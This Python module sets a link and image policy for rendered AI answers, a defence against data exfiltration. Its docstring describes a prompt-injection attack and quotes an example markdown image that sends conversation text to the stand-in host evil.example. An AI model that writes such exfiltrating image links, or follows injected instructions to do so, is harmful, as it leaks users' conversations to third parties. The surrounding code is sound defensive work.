"""Which targets in an answer may become links on a page, and which pictures a page may load by itself.

A model that a document has talked into it can write `![](https://evil.example/?q=what+was+said)`: the page that shows
the answer would send that off with nobody's click. So pictures come from the service's own paths and from nowhere
else, and a link leads to its own paths, to a host that the operator lists, or to an address that stands word for word
in what was found or asked: such an address carries nothing of the conversation away.
"""

import html
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass

HOST = re.compile(r"\*|(?:\*\.)?[a-z0-9-]+(?:\.[a-z0-9-]+)*")
"""An entry of the list: a host, `*.` and the domain above a host, or `*` for all. Names in other scripts as `xn--…`."""
_SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:", re.IGNORECASE)
_WEB = re.compile(r"https?://([a-z0-9.-]+)(?::\d{1,5})?(?=[/?#]|\Z)", re.IGNORECASE)
_MAIL = re.compile(r"mailto:[\w.+-]+@[\w.-]+", re.IGNORECASE)
_ODD = re.compile(r"[\x00-\x1f\x7f\\]")  # browsers leave these out of an address, or read them as slashes
_IN_URL = re.compile(r"[\w/%=&?#~+@-]")  # what goes on with an address that it stands behind
_INSIDE = re.compile(r"//|url\s*\(", re.IGNORECASE)


@dataclass(frozen=True, slots=True)
class LinkPolicy:
    """`hosts` as the operator lists them; none: no other host than those of addresses that were found or asked."""

    hosts: Sequence[str] = ()

    def allows_link(self, target: str, known: Iterable[str] = ()) -> bool:
        """Whether a link may lead there. `known` are the texts in which its address may stand word for word."""
        return is_own_path(target) or self._lists(target) or stands_in(target, known)

    def allows_picture(self, target: str) -> bool:
        """Whether a page may load that by itself: an address on a listed host can carry as much away as any other."""
        return is_own_path(target)

    def allows_attribute(self, value: str) -> bool:
        """Whether an attribute of a tag, whichever it is, names nothing elsewhere. Styles and sets of pictures hold
        addresses in the middle of their value."""
        return is_own_path(value) and not any(_INSIDE.search(form) for form in _forms(value))

    def _lists(self, target: str) -> bool:
        found = _WEB.match(target)
        if found is None or any(_ODD.search(form) for form in _forms(target)):
            return False
        host = found[1].lower()
        return any(_is_listed(host, entry) for entry in self.hosts)


OWN_PATHS = LinkPolicy()


def is_own_path(target: str) -> bool:
    """Whether a browser stays with the page's own host: no scheme, no second slash, nothing that it reads as one."""
    return not any(
        _ODD.search(form) or form.strip().startswith("//") or _SCHEME.match(form.strip()) for form in _forms(target)
    )


def stands_in(target: str, texts: Iterable[str]) -> bool:
    """Whether this web or mail address stands in one of the texts, word for word and whole."""
    if not (_WEB.match(target) or _MAIL.fullmatch(target)) or any(_ODD.search(form) for form in _forms(target)):
        return False
    return any(_stands_in(target, text) for text in texts)


def _stands_in(target: str, text: str) -> bool:
    at = text.find(target)
    while at >= 0:
        end = at + len(target)
        if not (at and _IN_URL.match(text[at - 1])) and not _IN_URL.match(text[end : end + 1]):
            return True
        at = text.find(target, at + 1)
    return False


def _is_listed(host: str, entry: str) -> bool:
    return entry in ("*", host) or (entry.startswith("*.") and host.endswith(entry[1:]))


def _forms(target: str) -> tuple[str, ...]:
    """As it is written, and as a page reads it: character references stand for characters."""
    return (target, html.unescape(target)) if "&" in target else (target,)
